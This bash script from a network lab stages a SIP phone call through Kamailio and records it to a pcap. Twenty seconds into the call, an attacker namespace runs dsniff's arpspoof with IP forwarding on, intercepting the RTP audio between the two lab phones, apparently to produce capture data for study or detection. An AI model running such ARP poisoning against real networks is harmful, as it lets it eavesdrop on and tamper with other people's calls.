#!/usr/bin/env bash
# ARP spoofing during a call: 1002 (ph2 10.77.0.12) registers, then one 30 s call 1001 (ph1 10.77.0.11) -> 1002
# through kamailio 10.77.0.1 with PCMU RTP directly between the phones (ph1:16000 <-> ph2:20000). From ~5 s to ~25 s
# into the call the attacker cg-att (10.77.0.66, 02:77:00:00:00:42) runs dsniff's
#   arpspoof -i cgeth0 -t 10.77.0.11 -r 10.77.0.12
# telling ph1 that 10.77.0.12 is at 02:77:00:00:00:42 and ph2 that 10.77.0.11 is at 02:77:00:00:00:42 (every 2 s);
# the attacker forwards (ip_forward=1, no ICMP redirects) so the RTP keeps flowing through it. On SIGTERM arpspoof
# re-ARPs the true bindings for a few seconds before it exits.
set -euo pipefail
# shellcheck source=../lab.sh
. "$(dirname "$0")/../lab.sh"
trap lab_down EXIT
NAME=arp-spoof

lab_up
in_ns att sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.cgeth0.send_redirects=0
lab_kamailio
lab_rtp_pcap "$LAB_TMP/pcmu.pcap" 30
S="$LAB_DIR/sipp"
lab_record_start "$LAB_TMP/cap.pcap"
lab_sipp ph2 -sf "$S/register.xml" 10.77.0.1:5060 -i 10.77.0.12 -p 5060 -s 1002 -au 1002 -ap orchid77 -m 1
lab_sipp_bg ph2 -sf "$S/uas-call.xml" -i 10.77.0.12 -p 5060 -mi 10.77.0.12 -mp 20000 -rtp_echo \
	-key sdp_proto RTP/AVP -key sdp_extra a=sendrecv -m 1
UAS=$LAB_LAST_PID
sleep 0.5
lab_sipp_bg ph1 -sf "$S/uac-call.xml" 10.77.0.1:5060 -i 10.77.0.11 -p 5060 -mi 10.77.0.11 -mp 16000 \
	-s 1002 -key caller 1001 -key sdp_proto RTP/AVP -key sdp_extra a=sendrecv -key rtp_pcap "$LAB_TMP/pcmu.pcap" \
	-d 31000 -m 1
UAC=$LAB_LAST_PID
sleep 5
lab_bg att arpspoof -i cgeth0 -t 10.77.0.11 -r 10.77.0.12
SPOOF=$LAB_LAST_PID
sleep 20
kill -TERM "$SPOOF"
lab_wait "$SPOOF" 20
lab_wait "$UAC" 30
lab_wait "$UAS" 5
lab_record_stop
lab_save "$LAB_TMP/cap.pcap" "$NAME"
